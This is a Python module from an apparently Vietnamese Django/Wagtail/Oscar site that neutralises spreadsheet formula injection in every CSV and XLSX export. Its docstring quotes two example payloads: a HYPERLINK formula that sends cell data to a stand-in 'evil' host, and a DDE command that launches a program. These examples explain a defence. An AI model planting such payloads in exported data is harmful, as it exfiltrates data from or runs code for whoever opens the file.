"""Every spreadsheet the site hands out (CSV or XLSX) goes through here, so that no text a
visitor, a producer or a mentor typed runs as a formula in the reader's Excel or LibreOffice.

A cell that starts with = + - @ (or a tab, a carriage return, a line feed, or the full-width
forms Excel also accepts) is a formula there: `=HYPERLINK("http://evil/?"&A2, "Xem")` sends the
next cell away, `+cmd|' /C calc'!A0` runs a program (OWASP "CSV Injection"). Such text is given
a leading apostrophe, which the spreadsheet shows as text. The writers used by:

- our own tables (mentoring dashboard, quarterly reports): `spreadsheet_response`;
- Wagtail's listing exports (members and every mentoring listing, the sell form's
  submissions): `SafeSpreadsheetExportMixin`;
- Oscar's dashboard: `SafeCSVWriter`, for the order list (marketplace.dashboard.orders) and
  every report (marketplace.loading gives them all `SafeReportCSVFormatter`).
"""

import csv
import datetime
import decimal
import functools
import io

from django.http import HttpResponse
from django.utils.encoding import force_str
from django.utils.functional import Promise
from django.utils.translation import gettext
from oscar.core.compat import UnicodeCSVWriter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def spreadsheet_text(value):
    """`value` unchanged unless it is text a spreadsheet would run as a formula."""
    if isinstance(value, Promise):
        value = force_str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_cell(value):
    """A value as a cell of our own tables: numbers and dates stay typed, yes/no in words."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return gettext("Yes") if value else gettext("No")
    if isinstance(value, int | float | datetime.date):
        return value
    return spreadsheet_text(str(value))


class SafeCSVWriter(UnicodeCSVWriter):
    """Oscar's CSV writer (BOM, Excel dialect) with every text cell neutralised; objects
    (Oscar's reports write a product itself) are written as their text."""

    def writerow(self, row):
        super().writerow([_csv_value(value) for value in row])


def _csv_value(value):
    if value is None or isinstance(value, int | float | decimal.Decimal):
        return value
    return spreadsheet_text(str(value))


class SafeSpreadsheetExportMixin:
    """For a Wagtail view with SpreadsheetExportMixin (listings, form submissions): the CSV
    cells and every heading are neutralised. (Wagtail already stores XLSX text as text, but a
    heading it appends as a plain string would still become a formula.) As in our own tables
    (spreadsheet_response), a yes/no field reads "Có"/"Không", not True/False, and the CSV
    starts with a BOM: without it Excel reads the UTF-8 Vietnamese letters as another code
    page ("Sá»‘ tháº»" for "Số thẻ")."""

    def preprocess_field_value(self, field, value, export_format):
        if isinstance(value, bool):
            value = gettext("Yes") if value else gettext("No")
        return spreadsheet_text(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field):
        return spreadsheet_text(super().get_heading(queryset, field))

    def stream_csv(self, queryset):
        yield "\ufeff"
        yield from super().stream_csv(queryset)


def spreadsheet_response(*, filename: str, headings, rows, fmt: str) -> HttpResponse:
    """A table as an XLSX or CSV download (CSV in UTF-8 with a BOM, so Excel reads the
    Vietnamese letters)."""
    headings = [spreadsheet_text(str(heading)) for heading in headings]
    if fmt == "csv":
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(headings)
        for row in rows:
            writer.writerow([spreadsheet_cell(value) for value in row])
        response = HttpResponse(
            "\ufeff" + buffer.getvalue(), content_type="text/csv; charset=utf-8"
        )
    else:
        from openpyxl import Workbook

        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet()
        sheet.append(headings)
        for row in rows:
            sheet.append([spreadsheet_cell(value) for value in row])
        buffer = io.BytesIO()
        workbook.save(buffer)
        response = HttpResponse(
            buffer.getvalue(),
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
    response["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    return response


@functools.cache
def safe_report_csv_formatter():
    """Oscar's ReportCSVFormatter writing through SafeCSVWriter (built on first use: Oscar's
    report module needs the apps loaded)."""
    from oscar.apps.dashboard.reports.reports import ReportCSVFormatter

    class SafeReportCSVFormatter(ReportCSVFormatter):
        def get_csv_writer(self, file_handle, **kwargs):
            return SafeCSVWriter(open_file=file_handle, **kwargs)

    return SafeReportCSVFormatter
